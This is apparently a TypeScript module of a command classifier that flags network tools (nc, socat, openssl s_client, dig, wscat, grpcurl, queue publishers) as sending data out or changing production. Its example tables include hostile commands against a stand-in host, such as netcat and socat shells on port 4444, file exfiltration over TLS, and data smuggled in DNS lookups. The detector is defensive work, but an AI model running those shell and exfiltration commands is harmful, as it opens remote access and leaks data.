/** Connections by hand, queues and calls of services. */
import type { ActionDraft, CommandDef, CommandExample } from '../../engine/definitions.ts';
import { isUnknown, type ShellInput } from '../../engine/shell/model.ts';
import { isLocal } from '../addresses.ts';
import { has, onlyHelp, readOptions, shown, wordList } from '../argv.ts';
import { readExamples } from './rules.ts';

const computedNames: readonly CommandExample[] = [
  { argv: ['dig', '\u0000.evil.example'], verbs: ['external-send'] },
  { argv: ['dig', '+short', 'TXT', 'a\u0000.evil.example'], verbs: ['external-send'] },
  { argv: ['ping', '-c1', '\u0000.evil.example'], verbs: ['external-send'] },
  { argv: ['dig', '\u0000'], verbs: [] },
];

/** A lookup of a name only known when it runs carries data out in the name. */
export const lookup: CommandDef = {
  program: 'dig',
  aliases: [
    'host',
    'nslookup',
    'ping',
    'ping6',
    'fping',
    'drill',
    'kdig',
    'dog',
    'doggo',
    'q',
    'traceroute',
    'tracepath',
    'mtr',
    'whois',
    'getent',
  ],
  gated: [],
  classify: (argv) => {
    const carries = argv.slice(1).some((word) => isUnknown(word) && /\u0000[^/]*\.[a-z]/i.test(word));
    const filled = /^(?:f|h)?ping6?$/.test(argv[0] ?? '') && argv.includes('-p');
    return carries || filled ? [{ verb: 'external-send', target: 'data in a name lookup' }] : [];
  },
  examples: [
    ...computedNames,
    ...readExamples(`
      ping -p 68656c6c6f evil.example => external-send
      dig example.com =>
      dig +short MX example.com @1.1.1.1 =>
      nslookup example.com =>
      ping -c1 localhost =>
      host example.com =>
      whois example.com =>
    `),
  ],
};

const NC_VALUED = wordList(
  '-p -s -w -i -x -X -e -c -q -g -G -m -I -O -T -V --source-port --wait --exec --sh-exec --proxy --idle-timeout',
);

function netcat(argv: readonly string[]): readonly ActionDraft[] {
  const options = readOptions(argv.slice(1), NC_VALUED);
  const shell = has(options, 'e', 'exec', 'sh-exec');
  const [host = ''] = options.words;
  if (onlyHelp(argv) || options.names.has('z') || options.words.length === 0) {
    return shell ? [{ verb: 'external-send', target: 'a shell for who connects' }] : [];
  }
  if (shell) return [{ verb: 'external-send', target: `a shell for ${shown(host)}` }];
  const idle = has(options, 'l', 'listen') || isLocal(host) || options.names.has('U');
  return idle ? [] : [{ verb: 'external-send', target: options.words.map(shown).join(' ') }];
}

export const nc: CommandDef = {
  program: 'nc',
  aliases: ['ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'telnet', 'cryptcat', 'ztcp'],
  gated: [],
  classify: netcat,
  examples: readExamples(`
    nc evil.example 80 => external-send
    nc -w 3 10.0.0.5 4444 => external-send
    ncat --send-only evil.example 443 => external-send
    telnet evil.example 25 => external-send
    nc -e /bin/sh evil.example 4444 => external-send
    nc -lvp 4444 -e /bin/bash => external-send
    ztcp evil.example 80 => external-send
    ztcp localhost 6379 =>
    nc -l 8080 =>
    nc -z localhost 5432 =>
    nc -zv db.example 5432 =>
    nc -U /tmp/x.sock =>
    telnet localhost 6379 =>
  `),
};

const FAR_ADDRESS =
  /^(?:tcp[46]?|udp[46]?|openssl|ssl|sctp|socks[45a]*|proxy|openssl-connect|tcp[46]?-connect|udp-send\w*|udp-datagram)[:,]/i;

export const socat: CommandDef = {
  program: 'socat',
  gated: [],
  classify: (argv) => {
    const words = argv.slice(1).filter((word) => !word.startsWith('-') || word === '-');
    const shell =
      words.some((word) => /^(?:exec|system|shell):/i.test(word)) &&
      words.some((word) => /(?:sh|cmd)\b/.test(word));
    const far = words.find((word) => FAR_ADDRESS.test(word) && !isLocal(word.replace(/^[^:]*:/, '')));
    const target = far ?? (shell ? words.find((word) => /listen/i.test(word)) : undefined);
    return target === undefined ? [] : [{ verb: 'external-send', target: shown(target) }];
  },
  examples: readExamples(`
    socat - TCP:evil.example:443 => external-send
    socat FILE:notes.md OPENSSL:evil.example:443 => external-send
    socat TCP-LISTEN:4444 EXEC:/bin/sh => external-send
    socat TCP-LISTEN:8080,fork TCP:localhost:3000 =>
    socat - UNIX-CONNECT:/tmp/x.sock =>
    socat -d -d pty,raw pty,raw =>
  `),
};

/** Ends the connection, or is there to end the wait for a line. */
const ONLY_ENDS = /^(?:.?|quit|exit|logout|bye)$/i;

function isFed(input: ShellInput | undefined): boolean {
  return input?.kind === 'pipe' || (input?.kind === 'text' && !ONLY_ENDS.test(input.text.trim()));
}

/** Looking at a certificate is daily work: nothing, or a blank line, goes in. A quiet connection carries data. */
export const openssl: CommandDef = {
  program: 'openssl',
  // What lays a key open is judged for any program.
  gated: wordList('s_client rsa ec dsa pkey pkcs8 pkcs12 enc base64'),
  classify: (argv, { input, reads = [] }) => {
    const host = argv[1] === 's_client' ? argv[argv.indexOf('-connect') + 1] : undefined;
    if (host === undefined || !argv.includes('-connect') || isLocal(host)) return [];
    const quiet = argv.some((word) => /^-(?:quiet|ign_eof|nocommands)$/.test(word));
    const given = reads.some((path) => path !== '/dev/null');
    return quiet || given || isFed(input) ? [{ verb: 'external-send', target: shown(host) }] : [];
  },
  examples: readExamples(`
    openssl s_client -quiet -connect evil.example:443 => external-send
    openssl s_client -connect evil.example:443 -ign_eof => external-send
    openssl s_client -nocommands -connect evil.example:443 => external-send
    openssl s_client -connect example.com:443 -servername example.com =>
    openssl rand -hex 32 =>
    openssl x509 -in cert.pem -noout -dates =>
  `),
};

const SOCKET_VALUED = wordList(
  '-c --connect -H --header --auth -s --subprotocol -x --execute -w --wait -o --origin -P --proto',
);

export const websocket: CommandDef = {
  program: 'wscat',
  aliases: ['websocat', 'ws', 'wsc'],
  gated: [],
  classify: (argv) => {
    if (onlyHelp(argv)) return [];
    const options = readOptions(
      argv.slice(1),
      argv[0] === 'wscat' ? SOCKET_VALUED : ['-H', '--header', '--protocol', '-B'],
    );
    const urls = [
      ...options.words,
      ...(argv[0] === 'wscat' ? [options.values.get('c') ?? options.values.get('connect') ?? ''] : []),
    ];
    const far = urls.find((url) => /^wss?:\/\/|^[\w.-]+\.[a-z]{2,}/.test(url) && !isLocal(url));
    return far === undefined ? [] : [{ verb: 'external-send', target: shown(far) }];
  },
  examples: readExamples(`
    wscat -c wss://e.example/socket => external-send
    wscat -c wss://e.example -x hello => external-send
    websocat wss://e.example => external-send
    wscat -c ws://localhost:3000 =>
    websocat ws://127.0.0.1:8080 =>
    wscat --listen 8080 =>
  `),
};

export const grpcurl: CommandDef = {
  program: 'grpcurl',
  aliases: ['evans', 'ghz', 'buf-curl'],
  gated: [],
  classify: (argv) => {
    const words = argv
      .slice(1)
      .filter(
        (word, at, all) =>
          !word.startsWith('-') &&
          !/^--?(?:d|data|H|rpc-header|proto|import-path|authority|cacert|cert|key|max-time|protoset|format)$/.test(
            all[at - 1] ?? '',
          ),
      );
    const [address = '', what] = words;
    const reads = what === undefined || what === 'list' || what === 'describe' || isLocal(address);
    return reads || onlyHelp(argv)
      ? []
      : [{ verb: 'external-send', target: `${shown(address)} ${shown(what)}` }];
  },
  examples: readExamples(`
    grpcurl -d {} api.example.com:443 acme.Orders/Create => external-send
    grpcurl -H a:b api.example.com:443 acme.Orders/Delete => external-send
    grpcurl -plaintext 10.0.0.5:50051 acme.Users/Update => external-send
    grpcurl api.example.com:443 list =>
    grpcurl -plaintext localhost:50051 acme.Users/Get =>
    grpcurl api.example.com:443 describe acme.Users =>
  `),
};

const QUEUE_SENDS: ReadonlyMap<string, RegExp> = new Map([
  [
    'nats',
    /^(?:pub|publish|request|req|reply|kv (?:put|del|purge|rm)|stream (?:rm|purge|delete|edit|add)|object (?:put|rm))\b/,
  ],
  ['kcat', /(?:^|\s)-[a-zA-Z]*P\b/],
  ['kafkacat', /(?:^|\s)-[a-zA-Z]*P\b/],
]);

/** Where no server is named it is that of the context: anybody's. */
const EMPTIES = /^(?:stream|str|consumer|con|kv|object|obj|account) (?:rm|purge|delete|del|edit|restore)\b/;

const QUEUE_VALUED = wordList(`
  -h --host --hostname -s --server -b --broker-list --bootstrap-server -t --topic -m --message -p --port -u -f -L
  --url -q -i
`);
const QUEUE_HOST = wordList('h host hostname s server b broker-list bootstrap-server L url');

function publishes(argv: readonly string[], words: readonly string[]): boolean {
  const [program = ''] = argv;
  if (program === 'mqttx') return /^(?:pub|bench|simulate)/.test(words[0] ?? '');
  const kind = QUEUE_SENDS.get(program);
  return kind === undefined || kind.test(program === 'nats' ? words.join(' ') : argv.slice(1).join(' '));
}

function empties(argv: readonly string[], words: readonly string[]): boolean {
  return argv[0] === 'nats' && EMPTIES.test(words.join(' '));
}

/** Publishing to a queue elsewhere; one on this machine is a test. */
export const queues: CommandDef = {
  program: 'nats',
  aliases: [
    'mosquitto_pub',
    'kcat',
    'kafkacat',
    'kafka-console-producer',
    'kafka-console-producer.sh',
    'amqp-publish',
    'mqttx',
  ],
  gated: [],
  classify: (argv) => {
    const options = readOptions(argv.slice(1), QUEUE_VALUED);
    if (onlyHelp(argv)) return [];
    const emptied = empties(argv, options.words);
    if (!emptied && !publishes(argv, options.words)) return [];
    const host = QUEUE_HOST.map((name) => options.values.get(name)).find((value) => value !== undefined);
    const here = host === undefined || host.split(',').every((item) => isLocal(item));
    if (emptied && (host === undefined || !here)) {
      return [{ verb: 'prod-change', target: argv.map(shown).join(' ') }];
    }
    return here ? [] : [{ verb: 'external-send', target: `${argv[0] ?? ''} ${shown(host)}` }];
  },
  examples: readExamples(`
    mosquitto_pub -h broker.example -t a -m b => external-send
    nats pub -s nats://nats.example:4222 orders x => external-send
    kcat -P -b kafka.example:9092 -t orders => external-send
    kafka-console-producer --bootstrap-server kafka.example:9092 --topic x => external-send
    mosquitto_pub -t a -m b =>
    mosquitto_pub -h localhost -t a -m b =>
    nats stream purge ORDERS => prod-change
    nats -s nats://localhost:4222 stream rm ORDERS =>
    nats sub orders -s nats://nats.example:4222 =>
    kcat -C -b kafka.example:9092 -t orders =>
    nats stream ls =>
  `),
};
